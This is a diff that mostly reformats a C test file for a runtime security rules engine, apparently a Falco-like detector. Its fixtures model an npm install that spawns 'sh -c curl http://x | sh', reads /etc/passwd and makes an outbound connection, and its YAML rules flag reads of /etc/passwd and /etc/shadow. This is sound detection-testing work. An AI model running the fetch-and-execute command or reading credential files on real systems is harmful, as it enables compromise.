@@ -29,7 +29,7 @@ void *__wrap_malloc(size_t n);
 void *__wrap_calloc(size_t n, size_t sz);
 void *__wrap_realloc(void *p, size_t n);
 
-static unsigned long allocs;
+static volatile unsigned long allocs; /* volatile: GCC assumes malloc leaves globals alone */
 
 void *__wrap_malloc(size_t n)
 {
@@ -53,31 +53,57 @@ void *__wrap_realloc(void *p, size_t n)
 
 static char dir[64];
 
-static struct sf_proc p_init = {.pid = 100, .ppid = 1, .vpid = 1, .name = "bash", .exe = "/bin/bash",
-				.exepath = "/bin/bash", .args = "-l", .cwd = "/"};
-static struct sf_proc p_npm = {.pid = 200, .ppid = 100, .vpid = 2, .uid = 1000, .gid = 1000, .name = "npm",
-			       .exe = "npm", .exepath = "/usr/bin/node", .args = "install", .cwd = "/work/",
+static struct sf_proc p_init = {.pid = 100,
+				.ppid = 1,
+				.vpid = 1,
+				.name = "bash",
+				.exe = "/bin/bash",
+				.exepath = "/bin/bash",
+				.args = "-l",
+				.cwd = "/"};
+static struct sf_proc p_npm = {.pid = 200,
+			       .ppid = 100,
+			       .vpid = 2,
+			       .uid = 1000,
+			       .gid = 1000,
+			       .name = "npm",
+			       .exe = "npm",
+			       .exepath = "/usr/bin/node",
+			       .args = "install",
+			       .cwd = "/work/",
 			       .parent = &p_init};
-static struct sf_proc p_sh = {.pid = 300, .ppid = 200, .vpid = 3, .uid = 1000, .gid = 1000, .name = "sh",
-			      .exe = "sh", .exepath = "/bin/sh", .args = "-c curl http://x | sh",
-			      .cwd = "/work/pkg/", .exe_writable = false, .parent = &p_npm};
+static struct sf_proc p_sh = {.pid = 300,
+			      .ppid = 200,
+			      .vpid = 3,
+			      .uid = 1000,
+			      .gid = 1000,
+			      .name = "sh",
+			      .exe = "sh",
+			      .exepath = "/bin/sh",
+			      .args = "-c curl http://x | sh",
+			      .cwd = "/work/pkg/",
+			      .exe_writable = false,
+			      .parent = &p_npm};
 
 static struct sf_event file_ev(void)
 {
 	struct sf_event ev = {
-		.type = "openat",
-		.time_ns = 1700000000123456789LL,
-		.res = 3,
-		.proc = &p_sh,
-		.fd_type = SF_FD_FILE,
-		.fd_name = "/etc/passwd",
-		.open_flags = O_RDONLY | O_CLOEXEC,
-		.is_open_read = true,
-		.args = {{"fd", "3"}, {"dirfd", "AT_FDCWD"}, {"name", "/etc/passwd"}, {"flags", "O_RDONLY|O_CLOEXEC"}},
-		.nargs = 4,
-		.container_id = "c0ffee123456",
-		.container_name = "sf-job-1",
-		.container_image = "scanfarm/sandbox",
+	    .type = "openat",
+	    .time_ns = 1700000000123456789LL,
+	    .res = 3,
+	    .proc = &p_sh,
+	    .fd_type = SF_FD_FILE,
+	    .fd_name = "/etc/passwd",
+	    .open_flags = O_RDONLY | O_CLOEXEC,
+	    .is_open_read = true,
+	    .args = {{"fd", "3"},
+		     {"dirfd", "AT_FDCWD"},
+		     {"name", "/etc/passwd"},
+		     {"flags", "O_RDONLY|O_CLOEXEC"}},
+	    .nargs = 4,
+	    .container_id = "c0ffee123456",
+	    .container_name = "sf-job-1",
+	    .container_image = "scanfarm/sandbox",
 	};
 	return ev;
 }
@@ -98,16 +124,16 @@ static void endpoint(struct sf_endpoint *e, const char *ip, uint16_t port)
 static struct sf_event connect_ev(void)
 {
 	struct sf_event ev = {
-		.type = "connect",
-		.time_ns = 1700000001000000000LL,
-		.res = -115,
-		.proc = &p_sh,
-		.fd_type = SF_FD_IPV4,
-		.fd_name = "172.17.0.2:40000->198.51.100.7:443",
-		.l4proto = "tcp",
-		.args = {{"fd", "4"}, {"addr", "198.51.100.7:443"}},
-		.nargs = 2,
-		.container_id = "c0ffee123456",
+	    .type = "connect",
+	    .time_ns = 1700000001000000000LL,
+	    .res = -115,
+	    .proc = &p_sh,
+	    .fd_type = SF_FD_IPV4,
+	    .fd_name = "172.17.0.2:40000->198.51.100.7:443",
+	    .l4proto = "tcp",
+	    .args = {{"fd", "4"}, {"addr", "198.51.100.7:443"}},
+	    .nargs = 2,
+	    .container_id = "c0ffee123456",
 	};
 	endpoint(&ev.client, "172.17.0.2", 40000);
 	endpoint(&ev.server, "198.51.100.7", 443);
@@ -137,7 +163,8 @@ static void write_file(const char *name, const char *text)
 }
 
 /* Loads files (names inside dir) in order. */
-static int load(struct sf_ruleset **rs, char *err, size_t errlen, const char *a, const char *b, const char *c)
+static int load(struct sf_ruleset **rs, char *err, size_t errlen, const char *a, const char *b,
+		const char *c)
 {
 	char pa[256], pb[256], pc[256];
 	const char *paths[3];
@@ -161,9 +188,10 @@ static int load(struct sf_ruleset **rs, char *err, size_t errlen, const char *a,
 static int eval_cond(const char *prelude, const char *cond, const struct sf_event *ev)
 {
 	char yaml[16384], err[512];
-	snprintf(yaml, sizeof(yaml),
-		 "%s\n- rule: t\n  desc: t\n  condition: |-\n    %s\n  output: o\n  priority: info\n",
-		 prelude ? prelude : "", cond);
+	snprintf(
+	    yaml, sizeof(yaml),
+	    "%s\n- rule: t\n  desc: t\n  condition: |-\n    %s\n  output: o\n  priority: info\n",
+	    prelude ? prelude : "", cond);
 	struct sf_ruleset *rs;
 	if (sf_rules_load_buffer(&rs, "cond.yaml", yaml, strlen(yaml), err, sizeof(err)) != 0) {
 		fprintf(stderr, "  load error: %s\n", err);
@@ -177,17 +205,18 @@ static int eval_cond(const char *prelude, const char *cond, const struct sf_even
 	return m;
 }
 
-#define EXPECT(prelude, ev, want, cond)                                                        \
-	do {                                                                                   \
-		int r_ = eval_cond((prelude), (cond), (ev));                                   \
-		if (r_ != (want))                                                              \
-			fprintf(stderr, "  condition: %s -> %d, want %d\n", (cond), r_, (want)); \
-		CHECK_EQ(r_, (want));                                                          \
+#define EXPECT(prelude, ev, want, cond)                                                            \
+	do {                                                                                       \
+		int r_ = eval_cond((prelude), (cond), (ev));                                       \
+		if (r_ != (want))                                                                  \
+			fprintf(stderr, "  condition: %s -> %d, want %d\n", (cond), r_, (want));   \
+		CHECK_EQ(r_, (want));                                                              \
 	} while (0)
 
 /* Loads text as one file and expects an error that starts with "NAME:LINE:"
  * and contains needle. */
-static void expect_error(const char *name, const char *text, unsigned line, const char *needle, int line_no)
+static void expect_error(const char *name, const char *text, unsigned line, const char *needle,
+			 int line_no)
 {
 	char err[1024], prefix[128];
 	struct sf_ruleset *rs;
@@ -196,14 +225,15 @@ static void expect_error(const char *name, const char *text, unsigned line, cons
 	snprintf(prefix, sizeof(prefix), "%s/%s:%u: ", dir, name, line);
 	bool ok = rc < 0 && strncmp(err, prefix, strlen(prefix)) == 0 && strstr(err, needle);
 	if (!ok)
-		fprintf(stderr, "rules_test.c:%d: %s: rc %d, error '%s', want '%s...%s'\n", line_no, name, rc, err,
-			prefix, needle);
+		fprintf(stderr, "rules_test.c:%d: %s: rc %d, error '%s', want '%s...%s'\n", line_no,
+			name, rc, err, prefix, needle);
 	if (rc == 0)
 		sf_rules_free(rs);
 	CHECK(ok);
 }
 
-#define EXPECT_ERROR(name, text, line, needle) expect_error((name), (text), (line), (needle), __LINE__)
+#define EXPECT_ERROR(name, text, line, needle)                                                     \
+	expect_error((name), (text), (line), (needle), __LINE__)
 
 /* ---- tests ------------------------------------------------------------ */
 
@@ -324,9 +354,9 @@ static void test_precedence(void)
 	const char *m = "- macro: yes\n  condition: proc.name = sh\n"
 			"- macro: no\n  condition: proc.name = nope\n";
 	/* not > and > or */
-	EXPECT(m, &f, 1, "yes or no and no");	  /* yes or (no and no) */
+	EXPECT(m, &f, 1, "yes or no and no"); /* yes or (no and no) */
 	EXPECT(m, &f, 0, "(yes or no) and no");
-	EXPECT(m, &f, 0, "not yes and no");	  /* (not yes) and no */
+	EXPECT(m, &f, 0, "not yes and no"); /* (not yes) and no */
 	EXPECT(m, &f, 1, "not no and yes");
 	EXPECT(m, &f, 1, "not (yes and no)");
 	EXPECT(m, &f, 0, "not (yes or no)");
@@ -348,7 +378,8 @@ static void test_macros_lists(void)
 			  "- list: nested\n  items: [all_shells, ksh]\n"
 			  "- list: sensitive\n  items: [/etc/passwd, /etc/shadow]\n"
 			  "- macro: is_shell\n  condition: proc.name in (all_shells)\n"
-			  "- macro: reads_sensitive\n  condition: fd.name in (sensitive) and evt.is_open_read = true\n"
+			  "- macro: reads_sensitive\n  condition: fd.name in (sensitive) and "
+			  "evt.is_open_read = true\n"
 			  "- macro: shell_reads\n  condition: is_shell and reads_sensitive\n"
 			  "- macro: later_use\n  condition: defined_later\n"
 			  "- macro: defined_later\n  condition: proc.pid = 300\n";
@@ -359,7 +390,7 @@ static void test_macros_lists(void)
 	EXPECT(pre, &f, 1, "proc.name in (ksh, shells)");
 	EXPECT(pre, &f, 0, "proc.name in (zsh, fish)");
 	EXPECT(pre, &f, 0, "proc.name in (\"shells\")"); /* quoted: not a list name */
-	EXPECT(pre, &f, 0, "proc.name in (not_a_list)");  /* undefined bare name: a literal */
+	EXPECT(pre, &f, 0, "proc.name in (not_a_list)"); /* undefined bare name: a literal */
 	EXPECT(pre, &f, 1, "not proc.name in (not_a_list, bash)");
 	EXPECT(pre, &f, 1, "fd.name pmatch (sensitive)");
 	EXPECT(pre, &f, 0, "not shell_reads");
@@ -377,36 +408,35 @@ static void test_exceptions(void)
 	struct sf_event f = file_ev();
 	char err[1024];
 	struct sf_ruleset *rs;
-	write_file("exc.yaml",
-		   "- rule: read passwd\n"
-		   "  desc: d\n"
-		   "  condition: fd.name = /etc/passwd\n"
-		   "  output: o\n"
-		   "  priority: warning\n"
-		   "  exceptions:\n"
-		   "    - name: by_proc_and_dir\n"
-		   "      fields: [proc.name, fd.directory]\n"
-		   "      comps: [=, startswith]\n"
-		   "      values:\n"
-		   "        - [bash, /etc]\n"
-		   "    - name: by_name\n"
-		   "      fields: proc.name\n"
-		   "      values: [dash, \"not me\"]\n"
-		   "    - name: by_tuple_list\n"
-		   "      fields: [proc.pname, proc.cwd]\n"
-		   "      comps: [in, pmatch]\n"
-		   "      values:\n"
-		   "        - [[yarn, pnpm], [/work]]\n"
-		   "- rule: read passwd 2\n"
-		   "  desc: d\n"
-		   "  condition: fd.name = /etc/passwd\n"
-		   "  output: o\n"
-		   "  priority: warning\n"
-		   "  exceptions:\n"
-		   "    - name: single\n"
-		   "      fields: proc.name\n"
-		   "      comps: in\n"
-		   "      values: [sh]\n");
+	write_file("exc.yaml", "- rule: read passwd\n"
+			       "  desc: d\n"
+			       "  condition: fd.name = /etc/passwd\n"
+			       "  output: o\n"
+			       "  priority: warning\n"
+			       "  exceptions:\n"
+			       "    - name: by_proc_and_dir\n"
+			       "      fields: [proc.name, fd.directory]\n"
+			       "      comps: [=, startswith]\n"
+			       "      values:\n"
+			       "        - [bash, /etc]\n"
+			       "    - name: by_name\n"
+			       "      fields: proc.name\n"
+			       "      values: [dash, \"not me\"]\n"
+			       "    - name: by_tuple_list\n"
+			       "      fields: [proc.pname, proc.cwd]\n"
+			       "      comps: [in, pmatch]\n"
+			       "      values:\n"
+			       "        - [[yarn, pnpm], [/work]]\n"
+			       "- rule: read passwd 2\n"
+			       "  desc: d\n"
+			       "  condition: fd.name = /etc/passwd\n"
+			       "  output: o\n"
+			       "  priority: warning\n"
+			       "  exceptions:\n"
+			       "    - name: single\n"
+			       "      fields: proc.name\n"
+			       "      comps: in\n"
+			       "      values: [sh]\n");
 	int rc = load(&rs, err, sizeof(err), "exc.yaml", NULL, NULL);
 	CHECK_EQ(rc, 0);
 	if (rc) {
@@ -417,9 +447,11 @@ static void test_exceptions(void)
 	sf_rules_ctx_init(&ctx);
 	CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 1); /* only "read passwd" */
 	const struct sf_rule *r = sf_rules_find(rs, "read passwd");
-	CHECK(r && strstr(sf_rule_condition(r), "and not ((proc.name = bash and fd.directory startswith /etc))"));
+	CHECK(r && strstr(sf_rule_condition(r),
+			  "and not ((proc.name = bash and fd.directory startswith /etc))"));
 	CHECK(r && strstr(sf_rule_condition(r), "and not (proc.name in (dash, \"not me\"))"));
-	CHECK(r && strstr(sf_rule_condition(r), "proc.pname in (yarn, pnpm) and proc.cwd pmatch (/work)"));
+	CHECK(r && strstr(sf_rule_condition(r),
+			  "proc.pname in (yarn, pnpm) and proc.cwd pmatch (/work)"));
 	sf_rules_free(rs);
 
 	/* the exceptions are applied: one matching value per form */
@@ -427,12 +459,15 @@ static void test_exceptions(void)
 	struct sf_proc p = p_sh;
 	g.proc = &p;
 	snprintf(p.name, sizeof(p.name), "bash");
-	write_file("exc2.yaml", "- rule: read passwd\n  exceptions:\n    - name: by_name\n      values: [sh]\n"
-				"    - name: new_one\n      fields: [proc.pid]\n      values: [[12345]]\n  append: true\n");
+	write_file("exc2.yaml",
+		   "- rule: read passwd\n  exceptions:\n    - name: by_name\n      values: [sh]\n"
+		   "    - name: new_one\n      fields: [proc.pid]\n      values: [[12345]]\n  "
+		   "append: true\n");
 	rc = load(&rs, err, sizeof(err), "exc.yaml", "exc2.yaml", NULL);
 	CHECK_EQ(rc, 0);
 	if (!rc) {
-		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 0); /* sh is now excepted by both */
+		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL),
+			 0); /* sh is now excepted by both */
 		struct sf_rules_ctx c2;
 		sf_rules_ctx_init(&c2);
 		/* bash reading in /etc: rule 1 has by_proc_and_dir, rule 2 only excepts sh */
@@ -448,21 +483,27 @@ static void test_exceptions(void)
 		sf_rules_free(rs);
 	}
 	/* override: exceptions replace */
-	write_file("exc3.yaml", "- rule: read passwd 2\n  exceptions: []\n  override:\n    exceptions: replace\n");
+	write_file(
+	    "exc3.yaml",
+	    "- rule: read passwd 2\n  exceptions: []\n  override:\n    exceptions: replace\n");
 	rc = load(&rs, err, sizeof(err), "exc.yaml", "exc3.yaml", NULL);
 	CHECK_EQ(rc, 0);
 	if (!rc) {
-		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 2); /* rule 2 no longer excepts sh */
-		CHECK(strcmp(sf_rule_condition(sf_rules_find(rs, "read passwd 2")), "fd.name = /etc/passwd") == 0);
+		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL),
+			 2); /* rule 2 no longer excepts sh */
+		CHECK(strcmp(sf_rule_condition(sf_rules_find(rs, "read passwd 2")),
+			     "fd.name = /etc/passwd") == 0);
 		sf_rules_free(rs);
 	}
 	/* override: exceptions append */
-	write_file("exc4.yaml", "- rule: read passwd 2\n  exceptions:\n    - name: single\n      values: [cat]\n"
-				"  override:\n    exceptions: append\n");
+	write_file("exc4.yaml",
+		   "- rule: read passwd 2\n  exceptions:\n    - name: single\n      values: [cat]\n"
+		   "  override:\n    exceptions: append\n");
 	rc = load(&rs, err, sizeof(err), "exc.yaml", "exc4.yaml", NULL);
 	CHECK_EQ(rc, 0);
 	if (!rc) {
-		CHECK(strstr(sf_rule_condition(sf_rules_find(rs, "read passwd 2")), "proc.name in (sh, cat)") != NULL);
+		CHECK(strstr(sf_rule_condition(sf_rules_find(rs, "read passwd 2")),
+			     "proc.name in (sh, cat)") != NULL);
 		sf_rules_free(rs);
 	}
 }
@@ -472,15 +513,18 @@ static void test_append_override(void)
 	struct sf_event f = file_ev();
 	char err[1024];
 	struct sf_ruleset *rs;
-	write_file("base.yaml", "- list: procs\n  items: [bash]\n"
-				"- macro: m\n  condition: proc.name in (procs)\n"
-				"- rule: r\n  desc: base\n  condition: m\n  output: 'proc %proc.name'\n"
-				"  priority: notice\n  tags: [a]\n"
-				"- rule: other\n  desc: d\n  condition: evt.type = openat\n  output: o\n  priority: debug\n");
+	write_file("base.yaml",
+		   "- list: procs\n  items: [bash]\n"
+		   "- macro: m\n  condition: proc.name in (procs)\n"
+		   "- rule: r\n  desc: base\n  condition: m\n  output: 'proc %proc.name'\n"
+		   "  priority: notice\n  tags: [a]\n"
+		   "- rule: other\n  desc: d\n  condition: evt.type = openat\n  output: o\n  "
+		   "priority: debug\n");
 	/* old style */
-	write_file("old.yaml", "- list: procs\n  items: [sh]\n  append: true\n"
-			       "- macro: m\n  condition: and fd.name = /etc/passwd\n  append: true\n"
-			       "- rule: r\n  condition: and evt.type = openat\n  append: true\n");
+	write_file("old.yaml",
+		   "- list: procs\n  items: [sh]\n  append: true\n"
+		   "- macro: m\n  condition: and fd.name = /etc/passwd\n  append: true\n"
+		   "- rule: r\n  condition: and evt.type = openat\n  append: true\n");
 	int rc = load(&rs, err, sizeof(err), "base.yaml", "old.yaml", NULL);
 	CHECK_EQ(rc, 0);
 	if (!rc) {
@@ -495,13 +539,14 @@ static void test_append_override(void)
 		sf_rules_free(rs);
 	}
 	/* new style */
-	write_file("new.yaml", "- list: procs\n  items: [zsh, sh]\n  override:\n    items: replace\n"
-			       "- macro: m\n  condition: proc.name in (procs) and proc.pid = 300\n"
-			       "  override:\n    condition: replace\n"
-			       "- rule: r\n  condition: and fd.name = /etc/passwd\n  output: '(new)'\n"
-			       "  priority: critical\n  tags: [b]\n  desc: replaced\n"
-			       "  override:\n    condition: append\n    output: append\n    priority: replace\n"
-			       "    tags: append\n    desc: replace\n");
+	write_file("new.yaml",
+		   "- list: procs\n  items: [zsh, sh]\n  override:\n    items: replace\n"
+		   "- macro: m\n  condition: proc.name in (procs) and proc.pid = 300\n"
+		   "  override:\n    condition: replace\n"
+		   "- rule: r\n  condition: and fd.name = /etc/passwd\n  output: '(new)'\n"
+		   "  priority: critical\n  tags: [b]\n  desc: replaced\n"
+		   "  override:\n    condition: append\n    output: append\n    priority: replace\n"
+		   "    tags: append\n    desc: replace\n");
 	rc = load(&rs, err, sizeof(err), "base.yaml", "new.yaml", NULL);
 	CHECK_EQ(rc, 0);
 	if (rc)
@@ -520,22 +565,28 @@ static void test_append_override(void)
 	}
 	/* list append via override, redefinition replaces */
 	write_file("new2.yaml", "- list: procs\n  items: [sh]\n  override:\n    items: append\n"
-				"- rule: other\n  desc: d\n  condition: evt.type = execve\n  output: o\n  priority: debug\n");
+				"- rule: other\n  desc: d\n  condition: evt.type = execve\n  "
+				"output: o\n  priority: debug\n");
 	rc = load(&rs, err, sizeof(err), "base.yaml", "new2.yaml", NULL);
 	CHECK_EQ(rc, 0);
 	if (!rc) {
 		struct sf_rules_ctx ctx;
 		sf_rules_ctx_init(&ctx);
-		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL), 1); /* r (bash, sh); other now execve */
+		CHECK_EQ(sf_rules_eval(rs, &ctx, &f, NULL, NULL),
+			 1); /* r (bash, sh); other now execve */
 		CHECK_EQ(sf_rules_total(rs), 2);
 		CHECK(strcmp(sf_rule_name(sf_rules_at(rs, 0)), "r") == 0);
 		sf_rules_free(rs);
 	}
 	/* override keys must match the given keys */
-	write_file("badov.yaml", "- rule: r\n  condition: and x\n  output: y\n  override:\n    condition: append\n");
+	write_file(
+	    "badov.yaml",
+	    "- rule: r\n  condition: and x\n  output: y\n  override:\n    condition: append\n");
 	rc = load(&rs, err, sizeof(err), "base.yaml", "badov.yaml", NULL);
-	CHECK(rc < 0 && strstr(err, "badov.yaml:3:") && strstr(err, "'output' has no entry under 'override'"));
-	write_file("badov2.yaml", "- rule: r\n  priority: info\n  override:\n    priority: append\n");
+	CHECK(rc < 0 && strstr(err, "badov.yaml:3:") &&
+	      strstr(err, "'output' has no entry under 'override'"));
+	write_file("badov2.yaml",
+		   "- rule: r\n  priority: info\n  override:\n    priority: append\n");
 	rc = load(&rs, err, sizeof(err), "base.yaml", "badov2.yaml", NULL);
 	CHECK(rc < 0 && strstr(err, "badov2.yaml:4:") && strstr(err, "cannot be appended"));
 }
@@ -545,9 +596,11 @@ static void test_enabled(void)
 	struct sf_event f = file_ev();
 	char err[1024];
 	struct sf_ruleset *rs;
-	write_file("en1.yaml", "- rule: off\n  desc: d\n  condition: evt.type = openat\n  output: o\n"
-			       "  priority: info\n  enabled: false\n"
-			       "- rule: on\n  desc: d\n  condition: evt.type = openat\n  output: o\n  priority: info\n");
+	write_file("en1.yaml",
+		   "- rule: off\n  desc: d\n  condition: evt.type = openat\n  output: o\n"
+		   "  priority: info\n  enabled: false\n"
+		   "- rule: on\n  desc: d\n  condition: evt.type = openat\n  output: o\n  "
+		   "priority: info\n");
 	write_file("en2.yaml", "- rule: off\n  enabled: true\n");
 	write_file("en3.yaml", "- rule: on\n  enabled: false\n  override:\n    enabled: replace\n");
 	int rc = load(&rs, err, sizeof(err), "en1.yaml", NULL, NULL);
@@ -575,7 +628,8 @@ static void test_enabled(void)
 	CHECK_EQ(rc, 0);
 	if (!rc) {
 		CHECK_EQ(sf_rules_count(rs), 1);
-		CHECK(sf_rule_enabled(sf_rules_find(rs, "off")) && !sf_rule_enabled(sf_rules_find(rs, "on")));
+		CHECK(sf_rule_enabled(sf_rules_find(rs, "off")) &&
+		      !sf_rule_enabled(sf_rules_find(rs, "on")));
 		sf_rules_free(rs);
 	}
 }
@@ -584,15 +638,19 @@ static void test_versions_sources(void)
 {
 	char err[1024];
 	struct sf_ruleset *rs;
-	write_file("v1.yaml", "- required_engine_version: 12\n- required_engine_version: 0.43.0\n"
-			      "- required_plugin_versions:\n    - name: container\n      version: 0.1.0\n"
-			      "- rule: k8s\n  desc: d\n  condition: ka.verb = create\n  output: o\n"
-			      "  priority: info\n  source: k8s_audit\n"
-			      "- rule: skipme\n  desc: d\n  condition: proc.name = a and k8s.ns.name = x\n  output: o\n"
-			      "  priority: info\n  skip-if-unknown-filter: true\n"
-			      "- rule: skipme2\n  desc: d\n  condition: proc.name = a\n  output: '%k8s.pod.name'\n"
-			      "  priority: info\n  skip-if-unknown-filter: true\n"
-			      "- rule: kept\n  desc: d\n  condition: evt.type = openat\n  output: o\n  priority: info\n");
+	write_file(
+	    "v1.yaml",
+	    "- required_engine_version: 12\n- required_engine_version: 0.43.0\n"
+	    "- required_plugin_versions:\n    - name: container\n      version: 0.1.0\n"
+	    "- rule: k8s\n  desc: d\n  condition: ka.verb = create\n  output: o\n"
+	    "  priority: info\n  source: k8s_audit\n"
+	    "- rule: skipme\n  desc: d\n  condition: proc.name = a and k8s.ns.name = x\n  output: "
+	    "o\n"
+	    "  priority: info\n  skip-if-unknown-filter: true\n"
+	    "- rule: skipme2\n  desc: d\n  condition: proc.name = a\n  output: '%k8s.pod.name'\n"
+	    "  priority: info\n  skip-if-unknown-filter: true\n"
+	    "- rule: kept\n  desc: d\n  condition: evt.type = openat\n  output: o\n  priority: "
+	    "info\n");
 	int rc = load(&rs, err, sizeof(err), "v1.yaml", NULL, NULL);
 	CHECK_EQ(rc, 0);
 	if (rc)
@@ -604,11 +662,16 @@ static void test_versions_sources(void)
 		CHECK(strstr(sf_rules_warnings(rs), "source 'k8s_audit'") != NULL);
 		sf_rules_free(rs);
 	}
-	EXPECT_ERROR("v2.yaml", "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
-				"- required_engine_version: 100\n",
-		     6, "rules require engine version 0.100.0, but engine version is " SF_RULES_ENGINE_VERSION);
-	EXPECT_ERROR("v3.yaml", "\n- required_engine_version: 0.99.1\n", 2, "rules require engine version 0.99.1");
-	EXPECT_ERROR("v4.yaml", "- required_engine_version: 1.0.0\n", 1, "rules require engine version 1.0.0");
+	EXPECT_ERROR(
+	    "v2.yaml",
+	    "- rule: a\n  desc: d\n  condition: evt.type = x\n  output: o\n  priority: info\n"
+	    "- required_engine_version: 100\n",
+	    6,
+	    "rules require engine version 0.100.0, but engine version is " SF_RULES_ENGINE_VERSION);
+	EXPECT_ERROR("v3.yaml", "\n- required_engine_version: 0.99.1\n", 2,
+		     "rules require engine version 0.99.1");
+	EXPECT_ERROR("v4.yaml", "- required_engine_version: 1.0.0\n", 1,
+		     "rules require engine version 1.0.0");
 	EXPECT_ERROR("v5.yaml", "- required_engine_version: banana\n", 1, "is not a version");
 }
 
@@ -616,17 +679,20 @@ static void test_output(void)
 {
 	char err[1024];
 	struct sf_ruleset *rs;
-	write_file("out.yaml",
-		   "- rule: Read sensitive file\n"
-		   "  desc: d\n"
-		   "  condition: evt.type = openat\n"
-		   "  output: >\n"
-		   "    Sensitive file opened (file=%fd.name parent=%proc.aname[1] gp=%proc.aname[2]\n"
-		   "    cmd=%proc.cmdline sip=%fd.sip flags=%evt.arg.flags name=%(proc.name) pad=[%5proc.name]\n"
-		   "    cut=[%2fd.name] user=%user.name ctr=%container.id res=%evt.res ancestors=%proc.aname.\n"
-		   "    again=%fd.name)\n"
-		   "  priority: ERROR\n"
-		   "  tags: [filesystem, mitre_credential_access]\n");
+	write_file(
+	    "out.yaml",
+	    "- rule: Read sensitive file\n"
+	    "  desc: d\n"
+	    "  condition: evt.type = openat\n"
+	    "  output: >\n"
+	    "    Sensitive file opened (file=%fd.name parent=%proc.aname[1] gp=%proc.aname[2]\n"
+	    "    cmd=%proc.cmdline sip=%fd.sip flags=%evt.arg.flags name=%(proc.name) "
+	    "pad=[%5proc.name]\n"
+	    "    cut=[%2fd.name] user=%user.name ctr=%container.id res=%evt.res "
+	    "ancestors=%proc.aname.\n"
+	    "    again=%fd.name)\n"
+	    "  priority: ERROR\n"
+	    "  tags: [filesystem, mitre_credential_access]\n");
 	int rc = load(&rs, err, sizeof(err), "out.yaml", NULL, NULL);
 	CHECK_EQ(rc, 0);
 	if (rc) {
@@ -637,9 +703,11 @@ static void test_output(void)
 	const struct sf_rule *r = sf_rules_find(rs, "Read sensitive file");
 	struct sf_alert a;
 	CHECK_EQ(sf_rules_alert(rs, r, &f, "worker-1", &a), 0);
-	const char *want = "Sensitive file opened (file=/etc/passwd parent=npm gp=bash cmd=sh -c curl http://x | sh "
-			   "sip=<NA> flags=O_RDONLY|O_CLOEXEC name=sh pad=[sh   ] cut=[/e] user=scanner "
-			   "ctr=c0ffee123456 res=SUCCESS ancestors=npm bash. again=/etc/passwd)";
+	const char *want =
+	    "Sensitive file opened (file=/etc/passwd parent=npm gp=bash cmd=sh -c curl http://x | "
+	    "sh "
+	    "sip=<NA> flags=O_RDONLY|O_CLOEXEC name=sh pad=[sh   ] cut=[/e] user=scanner "
+	    "ctr=c0ffee123456 res=SUCCESS ancestors=npm bash. again=/etc/passwd)";
 	if (strcmp(a.output, want) != 0)
 		fprintf(stderr, "  output:\n  got  %s\n  want %s\n", a.output, want);
 	CHECK(strcmp(a.output, want) == 0);
@@ -648,28 +716,41 @@ static void test_output(void)
 	CHECK(strcmp(a.rule, "Read sensitive file") == 0);
 	CHECK(strcmp(a.source, "syscall") == 0);
 	CHECK(strcmp(a.hostname, "worker-1") == 0);
-	CHECK(a.ntags == 2 && strcmp(a.tags[0], "filesystem") == 0 && strcmp(a.tags[1], "mitre_credential_access") == 0);
+	CHECK(a.ntags == 2 && strcmp(a.tags[0], "filesystem") == 0 &&
+	      strcmp(a.tags[1], "mitre_credential_access") == 0);
 	static const char *const keys[][2] = {
-		{"fd.name", "/etc/passwd"}, {"proc.aname[1]", "npm"}, {"proc.aname[2]", "bash"},
-		{"proc.cmdline", "sh -c curl http://x | sh"}, {"fd.sip", "<NA>"}, {"evt.arg.flags", "O_RDONLY|O_CLOEXEC"},
-		{"proc.name", "sh"}, {"user.name", "scanner"}, {"container.id", "c0ffee123456"}, {"evt.res", "SUCCESS"},
-		{"proc.aname", "npm bash"},
+	    {"fd.name", "/etc/passwd"},
+	    {"proc.aname[1]", "npm"},
+	    {"proc.aname[2]", "bash"},
+	    {"proc.cmdline", "sh -c curl http://x | sh"},
+	    {"fd.sip", "<NA>"},
+	    {"evt.arg.flags", "O_RDONLY|O_CLOEXEC"},
+	    {"proc.name", "sh"},
+	    {"user.name", "scanner"},
+	    {"container.id", "c0ffee123456"},
+	    {"evt.res", "SUCCESS"},
+	    {"proc.aname", "npm bash"},
 	};
 	CHECK_EQ(a.nfields, sizeof(keys) / sizeof(keys[0]));
 	for (size_t i = 0; i < a.nfields && i < sizeof(keys) / sizeof(keys[0]); i++) {
-		bool ok = strcmp(a.fields[i].key, keys[i][0]) == 0 && strcmp(a.fields[i].value, keys[i][1]) == 0;
+		bool ok = strcmp(a.fields[i].key, keys[i][0]) == 0 &&
+			  strcmp(a.fields[i].value, keys[i][1]) == 0;
 		if (!ok)
-			fprintf(stderr, "  output_fields[%zu] = %s: %s\n", i, a.fields[i].key, a.fields[i].value);
+			fprintf(stderr, "  output_fields[%zu] = %s: %s\n", i, a.fields[i].key,
+				a.fields[i].value);
 		CHECK(ok);
 	}
 	sf_alert_free(&a);
 	sf_rules_free(rs);
 
-	EXPECT_ERROR("out2.yaml", "- rule: x\n  desc: d\n  condition: evt.type = open\n  output: bad %proc.nam field\n"
-				  "  priority: info\n",
-		     4, "output: unknown field after '%'");
-	EXPECT_ERROR("out3.yaml", "- rule: x\n  desc: d\n  condition: evt.type = open\n  output: ends with %\n"
-				  "  priority: info\n",
+	EXPECT_ERROR(
+	    "out2.yaml",
+	    "- rule: x\n  desc: d\n  condition: evt.type = open\n  output: bad %proc.nam field\n"
+	    "  priority: info\n",
+	    4, "output: unknown field after '%'");
+	EXPECT_ERROR("out3.yaml",
+		     "- rule: x\n  desc: d\n  condition: evt.type = open\n  output: ends with %\n"
+		     "  priority: info\n",
 		     4, "output: unknown field");
 }
 
@@ -682,9 +763,11 @@ static void check_render(const struct sf_event *ev, const struct render_case *cs
 	char buf[256];
 	for (size_t i = 0; i < n; i++) {
 		int rc = sf_rules_field_render(cs[i].field, ev, buf, sizeof(buf));
-		bool ok = strcmp(buf, cs[i].want) == 0 && (rc == 0) == (strcmp(cs[i].want, "<NA>") != 0);
+		bool ok =
+		    strcmp(buf, cs[i].want) == 0 && (rc == 0) == (strcmp(cs[i].want, "<NA>") != 0);
 		if (!ok)
